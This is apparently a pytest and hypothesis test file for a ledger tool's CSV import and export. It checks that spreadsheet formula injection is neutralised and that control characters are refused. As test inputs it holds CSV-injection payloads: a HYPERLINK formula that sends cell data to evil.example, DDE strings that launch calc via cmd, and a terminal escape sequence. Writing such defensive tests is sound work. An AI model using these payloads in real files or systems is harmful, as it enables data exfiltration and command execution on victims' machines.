"""Texts that leave in a CSV come back as they were, and are no formula for a spreadsheet."""

import csv
import io
import json
import os
import subprocess
import sys
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings, strategies as st

from ledger.admin.transfer import cells
from ledger.core import texts
from tests.admin.conftest import Command
from tests.one_book.books import Books
from tests.world import World
from tools.local.template import ROOT

SIGNS = ("=", "+", "-", "@", "\t", "\r", "'", "\n", "\uff1d")
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
TEXT = (
    st.tuples(st.sampled_from(["", *SIGNS, "''", "'="]), st.text(max_size=8)).map("".join)
).filter(lambda text: texts.is_plain(text) and "\r" not in text)
HEADER = "entry,date,currency,description,account_name,account_type,debit,credit,line_description"


@given(st.tuples(st.sampled_from(["", *SIGNS]), st.text()).map("".join))
def test_every_text_is_no_formula_and_comes_back(text: str) -> None:
    cell = cells.guard(text)
    assert not cell.startswith(SIGNS[:-3]) or cell.startswith("'")
    assert cells.unguard(cell) == text


@pytest.fixture
def books(world: World) -> Books:
    return Books(world)


@settings(max_examples=8, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(said=TEXT, line=TEXT, name=TEXT.filter(lambda text: text.strip()))
@example(said=FORMULA, line="+1+cmd|' /C calc'!A0", name="@SUM(1+1)*cmd|' /C calc'!A0")
@example(said="'", line="''=1", name="'=1")
def test_a_csv_moves_its_texts_to_another_book(
    command: Command, books: Books, said: str, line: str, name: str
) -> None:
    tenant = books.world.tenant.tenant_id
    first, second = (made(command, tenant) for _ in range(2))
    rows = [["e", "2026-01-31", "USD", said, name, "asset", "1.00", "", line]]
    rows += [["e", "2026-01-31", "USD", said, "Sales", "revenue", "", "1.00", ""]]
    typed = HEADER + "\n" + written(rows)
    assert command("import", tenant, first, "csv", "--quiet", stdin=typed)[0] == 0
    text = command("export", tenant, first, "csv", "--quiet")[1]
    for row in csv.reader(io.StringIO(text)):
        assert not [cell for cell in row if cell.startswith(SIGNS) and not cell.startswith("'")]
    assert command("import", tenant, second, "csv", "--quiet", stdin=text)[0] == 0
    again = command("export", tenant, second, "csv", "--quiet")[1]
    assert told(again) == told(text) == {(said, texts.normal(name), line), (said, "Sales", "")}


def made(command: Command, tenant: str) -> str:
    answer = command("business", "create", tenant, "Book", "--currency", "USD")
    business: str = json.loads(answer[1])["business_id"]
    return business


def written(rows: list[list[str]]) -> str:
    file = io.StringIO()
    csv.writer(file).writerows(rows)
    return file.getvalue()


def told(text: str) -> set[tuple[str, ...]]:
    names = ("description", "account_name", "line_description")
    rows: list[dict[str, Any]] = list(csv.DictReader(io.StringIO(text)))
    return {tuple(cells.unguard(row[name]) for name in names) for row in rows}


def test_anothers_quote_is_part_of_its_text(command: Command, books: Books) -> None:
    tenant = books.world.tenant.tenant_id
    business = made(command, tenant)
    rows = [["e", "2026-01-31", "USD", "'=1", "A", "asset", "1.00", "", "''"]]
    rows += [["e", "2026-01-31", "USD", "'=1", "B", "asset", "", "1.00", ""]]
    typed = HEADER + "\n" + written(rows)
    assert command("import", tenant, business, "csv", "--quiet", stdin=typed)[0] == 0
    text = command("export", tenant, business, "csv", "--quiet")[1]
    assert told(text) == {("'=1", "A", "''"), ("'=1", "B", "")}


@pytest.mark.parametrize("column", ["description", "account_name", "line_description", "entry"])
@pytest.mark.parametrize("odd", ["\x1b]0;owned\x07", "\0", "\u202e", "\x9b"], ids=ascii)
def test_a_cell_with_what_no_text_may_have_is_refused(
    command: Command, books: Books, column: str, odd: str
) -> None:
    row = dict(zip(HEADER.split(","), ["e", "2026-01-31", "USD", *"abcdef"], strict=True))
    row |= {"account_type": "asset", "debit": "1.00", "credit": "", column: f"a{odd}"}
    where = (books.world.tenant.tenant_id, books.business_id)
    typed = HEADER + "\n" + written([list(row.values())])
    status, printed, _ = command("import", *where, "csv", "--quiet", stdin=typed)
    assert status == 1
    (result,) = map(json.loads, printed.splitlines())
    assert f"{column}: must not contain U+{ord(odd[0]):04X}" in result["why"]
    assert texts.is_plain(printed)


def test_a_csvs_accounts_are_found_by_either_spelling(command: Command, books: Books) -> None:
    tenant = books.world.tenant.tenant_id
    business = made(command, tenant)
    head = "entry,date,currency,account_number,account_name,account_type,debit,credit"
    rows = [
        ["1", "512", "", "asset", "1.00", ""],
        ["1", " 706 ", "Caf\u00e9", "revenue", "", "1.00"],
        ["2", "512 ", "", "", "1.00", ""],
        ["2", "706\n", "", "", "", "1.00"],
        ["3", "", "Caf\u00e9 ", "asset", "1.00", ""],
        ["3", "", "Cafe\u0301", "asset", "", "1.00"],
    ]
    rows = [[one, "2026-01-31", "USD", *more] for one, *more in rows]
    typed = head + "\n" + written(rows)
    assert command("import", tenant, business, "csv", "--quiet", stdin=typed)[0] == 0
    text = command("export", tenant, business, "csv", "--quiet")[1]
    exported = list(csv.DictReader(io.StringIO(text)))
    assert {row["account_number"] for row in exported} == {"512", "706", ""}
    assert len({row["account"] for row in exported}) == 3
    bad = typed.replace("512,,asset", "5 12,,asset")
    results = command("import", tenant, made(command, tenant), "csv", "--quiet", stdin=bad)[1]
    assert "account_number: must have no spaces" in results


SCRIPT = """
import io, os, sys
from ledger.admin.__main__ import main
from tools.local import engines

with engines.with_table("moto") as engine:
    os.environ.update(engines.environment(engine))
    def run(*said):
        sys.stdout.flush()
        assert main(["--table", engines.TABLE, *said]) == 0, said
    real, sys.stdout = sys.stdout, io.StringIO()
    run("tenant", "create", "T")
    tenant = sys.stdout.getvalue().split('"')[3]
    run("business", "create", tenant, "B")
    business = sys.stdout.getvalue().split('"')[-2]
    sys.stdout = real
    run("import", tenant, business, "csv", "--quiet")
    for form in ("csv", "ndjson", "beancount"):
        run("export", tenant, business, form, "--quiet")
"""


@pytest.mark.parametrize("encoding", ["latin-1", "cp1252:strict", "ascii"])
def test_what_is_exported_is_utf_8_whatever_the_terminal_is(encoding: str) -> None:
    rows = [["e", "2026-01-31", "USD", "é 日本", "é", "asset", "1.00", "", ""]]
    rows += [["e", "2026-01-31", "USD", "é 日本", "日本", "asset", "", "1.00", ""]]
    done = subprocess.run(
        [sys.executable, "-c", SCRIPT],
        input=(HEADER + "\n" + written(rows)).encode(),
        capture_output=True,
        env={**os.environ, "PYTHONIOENCODING": encoding, "LC_ALL": "C", "PYTHONUTF8": "0"},
        cwd=ROOT,
        check=False,
    )
    assert done.returncode == 0, done.stderr.decode()
    assert done.stdout.decode().count("é 日本") == 4
    assert "b'" not in done.stdout.decode()


@pytest.mark.parametrize("odd", ["\x1b]0;owned\x07", "a\r", "\u202e", "\udcff"], ids=ascii)
def test_what_an_operator_names_is_a_text_too(command: Command, books: Books, odd: str) -> None:
    """Also a byte of the command line that is no UTF-8, which Python reads as half a pair."""
    tenant, business = books.world.tenant.tenant_id, books.business_id
    for said in (
        ("tenant", "create", odd),
        ("business", "create", tenant, odd),
        ("client", "create", tenant, "--business", business, "--scope", odd),
    ):
        status, printed, why = command(*said)
        assert (status, printed) == (1, "")
        assert f"must not contain U+{ord(odd.strip('a')[0]):04X}" in why
        assert texts.is_plain(why)
